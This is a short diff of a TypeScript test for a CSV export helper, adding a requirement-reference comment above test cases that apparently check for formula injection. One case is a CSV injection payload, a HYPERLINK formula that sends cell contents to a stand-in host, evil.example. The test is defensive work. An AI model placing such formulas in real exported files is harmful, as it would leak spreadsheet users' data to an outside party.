@@ -6,6 +6,7 @@ import { toCsv } from './to-csv.ts'
 const readCell = (value: string | number | null) =>
   parse<string[]>(toCsv(['Name'], [[value]]).slice(1)).data[1]?.[0]
 
+// proves T5, V1.2.10
 test.each([
   '=1+1',
   '=HYPERLINK("https://evil.example?"&A1)',
